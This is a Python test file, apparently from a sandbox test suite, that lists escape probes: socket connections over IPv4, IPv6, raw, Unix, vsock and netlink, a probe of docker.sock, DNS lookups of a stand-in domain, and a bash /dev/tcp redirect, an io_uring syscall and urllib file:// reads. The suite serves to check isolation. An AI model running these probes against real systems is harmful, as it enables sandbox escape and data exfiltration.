"""Attacks that look for a way out: networks, sockets, downloads."""

from tests.hostile.declare import Attack, Goal

OUT: Goal = "secret read"


def calls(name: str, tries: str, source: str) -> Attack:
    """An attack that reaches out; at the doors in front of the sandbox somebody listens."""
    return Attack(name, tries, OUT, first=(source,))


ATTACKS = (
    calls(
        "internet-addresses",
        "connects and sends to this machine and to others, by IPv4 and IPv6",
        """
        import socket
        for family, kind, address in (
            (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @TCP@)),
            (socket.AF_INET6, socket.SOCK_STREAM, ("::1", @TCP6@)),
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@)),
            (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
            (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
        ):
            try:
                with socket.socket(family, kind) as out:
                    out.settimeout(0.2)
                    out.connect(address)
                    out.send(b"x")
                    print("BROKE", "IN", sep="-")
            except OSError:
                pass
        """,
    ),
    calls(
        "unix-sockets",
        "connects to sockets with a name, in the file system and without",
        """
        import glob, socket
        names = ["\\0@ABSTRACT@", "@DOOR@", "/proc/1/root@DOOR@", *glob.glob("/run/*"),
                 "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0", "/var/run/docker.sock"]
        for name in names[:500]:
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
                    out.connect(name)
                    print("BROKE", "IN", sep="-")
            except OSError:
                pass
        """,
    ),
    calls(
        "names",
        "asks for names, which a server far away would learn of",
        """
        import socket
        for name in ("zzfetch.example", "localhost.zzfetch.example"):
            try:
                socket.getaddrinfo(name, 80)
                print("BROKE", "IN", sep="-")
            except OSError:
                pass
        """,
    ),
    calls(
        "uncommon-families",
        "opens sockets to the hypervisor, the kernel and its packets",
        """
        import socket, struct
        for family, kind, protocol in ((40, 1, 0), (16, 3, 0), (17, 3, 3), (38, 5, 0), (31, 3, 0)):
            try:
                with socket.socket(family, kind, protocol) as out:
                    out.settimeout(0.2)
                    if family == 40:
                        for host in (2, 1):
                            out.connect((host, 1024))
                    elif family == 17:
                        out.bind(("lo", 0))
                    elif family == 38:
                        out.bind(("hash", "sha256"))
                    else:
                        continue
                    print("BROKE", "IN", sep="-", end=f" by family {family}\\n")
            except OSError:
                pass
        """,
    ),
    calls(
        "downloads",
        "asks pip, the Hugging Face hub and the shell to fetch something",
        """
        import subprocess, sys, urllib.request
        for address in ("http://127.0.0.1:@TCP@/", "file://@SEED@", "file://@EXAM@"):
            try:
                print(urllib.request.urlopen(address, timeout=0.2).read())
                print("BROKE", "IN", sep="-")
            except (OSError, ValueError):
                pass
        try:
            done = subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/@TCP@ && echo x >&3"],
                                  capture_output=True, timeout=5)
            if done.returncode == 0:
                print("BROKE", "IN", sep="-")
        except (OSError, subprocess.SubprocessError):
            pass
        """,
    ),
    calls(
        "rings",
        "asks the kernel's rings to open and connect a socket past every filter",
        """
        import ctypes, mmap, struct
        libc = ctypes.CDLL(None, use_errno=True)
        parameters = ctypes.create_string_buffer(120)
        ring = libc.syscall(425, 4, parameters)
        if ring >= 0:
            print("BROKE", "IN", sep="-", end=f" with ring {ring}\\n")
        """,
    ),
)
